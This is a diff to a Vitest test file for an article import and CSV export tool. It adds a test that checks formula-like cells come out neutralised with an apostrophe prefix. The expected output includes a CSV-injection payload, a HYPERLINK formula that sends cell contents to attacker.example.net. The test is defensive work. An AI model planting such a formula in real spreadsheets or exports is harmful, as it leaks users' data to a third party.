@@ -1,6 +1,7 @@
 // @vitest-environment jsdom
 import { describe, expect, it } from 'vitest';
 import { readImportFiles, type ImportedArticle, type ReportEntry } from '../../../src/store/import';
+import { toCsv } from '../../../src/ui/shared/export';
 import { fixtures, textFile } from './helpers';
 
 const rejected = (code: ReportEntry['code'], file: string, reason: string, row?: number): ReportEntry =>
@@ -207,5 +208,14 @@ describe('formula cells', () => {
       ],
       ['-Rates frozen', 'tab-led author', '=2+3 is not a sum here: the council froze its rates for the second year running, its leader said.'],
     ]);
+  });
+
+  it('leave the CSV export with every one of them neutralised', () => {
+    const { articles } = readImportFiles(fixtures('formula-cells.csv'));
+    const csv = toCsv({ title: 'Sources', columns: ['Headline', 'Author', 'Text'], rows: articles.map((a) => [a.meta.headline, a.meta.author, a.text]) });
+    expect(csv.split('\r\n')[1]).toBe(
+      `"'=HYPERLINK(""https://attacker.example.net/?leak=""&A1;""Click here"")","'@Reporter","'=HYPERLINK(""https://attacker.example.net/?leak=""&A1;""Click here"")\n\n+1 council seat changed hands in the by-election on Thursday, the returning officer said."`,
+    );
+    expect(csv.split('\r\n')[2]).toMatch(/^"'-Rates frozen",tab-led author,"'-Rates frozen\n\n=2\+3 is not a sum here/);
   });
 });
